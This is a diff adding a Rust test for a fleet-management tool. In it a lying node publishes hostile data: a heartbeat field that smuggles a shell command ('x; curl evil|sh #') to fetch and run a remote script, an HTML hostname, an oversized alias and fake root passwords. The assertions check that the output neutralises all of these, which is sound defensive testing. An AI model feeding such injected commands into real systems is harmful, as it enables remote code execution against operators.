@@ -13,12 +13,13 @@ use sdc_clients::Jitter;
 use sdc_clients::fleet::{
     Access, Fleet, Kind, Labels, Made, Position, Shape, VMS, Wire, make, subject, usage,
 };
+use serde_json::json;
 
 use super::command::typed;
 use super::follow::{agreed, follow};
 use super::node::{CN, Running, vm};
 use super::permissions::{OTHER, keys};
-use super::{access, answered, servers, until};
+use super::{access, answered, made, servers, until};
 
 /// Publishes VMs that there are not, so many.
 async fn lies(wire: &Wire, count: usize) {
@@ -93,5 +94,79 @@ async fn a_node_that_makes_up_vms_pushes_out_nobody_elses_and_one_command_ends_i
     until("all is well", async || streams().await.0).await;
     let used = answered("who has how much", async || usage(&fleet).await).await;
     assert!(used.iter().all(|it| it.cn != OTHER || it.changes.messages <= 1), "{used:?}");
+    agent.kill();
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_node_says_of_others_or_in_another_shape_is_shown_as_its_own_and_in_part() {
+    // N36, N37, N38, N39
+    let dir = tempfile::tempdir().unwrap();
+    let Some(nats) = servers(1, Some(&accounts(&keys(&dir)))) else { return };
+    let with = |name: &str| Access { nkey: Some(dir.path().join(name)), ..access(&nats) };
+    let node = |cn: &str| Access { api: NODES_API.into(), inbox: Some(inbox(cn)), ..with(cn) };
+    let operator = with("operator");
+    let fleet = made(&operator, 1).await;
+    let (hub, machine) = (Hub::new(CN, 1000), Machine::drawn());
+    let agent = Running::start(&hub, &node(CN), &machine).await;
+    for (nth, alias) in ["honest", "second"].into_iter().enumerate() {
+        let mut it = vm(nth, alias);
+        let secret = json!("hunter2-hunter2");
+        it.insert("internal_metadata".to_owned(), json!({"root_pw": secret}));
+        for name in ["spice_opts", "qemu_opts", "qemu_extra_opts", "of_a_later_version"] {
+            it.insert(name.to_owned(), secret.clone());
+        }
+        hub.put(it);
+    }
+
+    let liar = node(OTHER).connect("liar", Jitter::from_seed(2)).await.unwrap();
+    let liar = Wire::new(liar, &node(OTHER));
+    let says = |nth: usize, seq: u64, vm: serde_json::Value| {
+        let own = subject(OTHER, Some(&format!("66600000-0000-4000-8000-{nth:012}")));
+        let labels = Labels::of(Kind::Create, Position { epoch: "e".into(), seq });
+        let (liar, body) = (liar.clone(), json!({ "vm": vm }).to_string());
+        async move { liar.publish(&own, &labels, body.into(), 0).await.unwrap() }
+    };
+    let uuid = |nth: usize| format!("66600000-0000-4000-8000-{nth:012}");
+    says(0, 1, json!({"uuid": uuid(0), "alias": {"a": ["b"]}, "state": "running"})).await;
+    says(1, 2, json!({"uuid": uuid(1), "alias": "y".repeat(300_000), "state": "running"})).await;
+    let need = |program: &str| json!({"program": program, "what": "down", "text": "t"});
+    let beat = json!({"cn_uuid": CN, "every_s": 60, "vms": 7,
+        "claim": {"instance": "i", "machine": "m", "version": "1", "hostname": "<a href=//evil>cn-1</a>"},
+        "needs": [need("x; curl evil|sh #"), need("net-agent")]});
+    liar.beat(OTHER, beat.to_string().into(), 0).await.unwrap();
+
+    let sdc_fleet = async |words: &[&str]| typed(&operator, words).await.1;
+    let nodes = ["nodes", "-H", "-p", "-o", "uuid,node,vms,help"];
+    until("both nodes", async || {
+        let text = sdc_fleet(&nodes).await;
+        text.lines().any(|it| it.starts_with(&format!("{CN}:cn-1:2:"))) && text.contains(OTHER)
+    })
+    .await;
+    let text = sdc_fleet(&nodes).await;
+    // Each is itself, by its key, and what is to be typed is ours.
+    let line =
+        format!("{OTHER}:{OTHER}:7:fleet-agent status; svcs -xv net-agent; fleet-agent status");
+    assert!(text.lines().count() == 2 && text.lines().any(|it| it == line), "{text}");
+    for words in [&["nodes"][..], &["nodes", "-o", "node,alarms,help"]] {
+        let text = sdc_fleet(words).await;
+        assert!(!text.contains("<a") && !text.contains("//evil"), "{text}");
+    }
+    let vms = ["vms", "-H", "-p", "-o", "uuid,alias"];
+    until("all VMs", async || sdc_fleet(&vms).await.lines().count() == 4).await;
+    let text = sdc_fleet(&vms).await;
+    assert!(text.contains(":honest\n") && text.contains(&format!("{0}:{0}\n", uuid(0))), "{text}");
+    assert!(text.len() < 2000 && text.contains(&format!("{}:yyyy", uuid(1))), "{}", text.len());
+    // What the honest node's agent let out of the node.
+    let changes = answered("CHANGES", async || fleet.changes(&format!("vms.{CN}.*")).await).await;
+    let objects: Vec<serde_json::Value> = changes
+        .iter()
+        .map(|it| serde_json::from_slice(&it.body).unwrap())
+        .filter(|it: &serde_json::Value| it["vm"].is_object())
+        .collect();
+    let text = json!(objects).to_string();
+    assert!(!text.contains("hunter2") && !text.contains("_opts"), "{text}");
+    let digests: Vec<&serde_json::Value> =
+        objects.iter().map(|it| &it["vm"]["internal_metadata"]["root_pw"]).collect();
+    assert!(digests[0].is_string() && digests[0] != digests[1], "{digests:?}");
     agent.kill();
 }
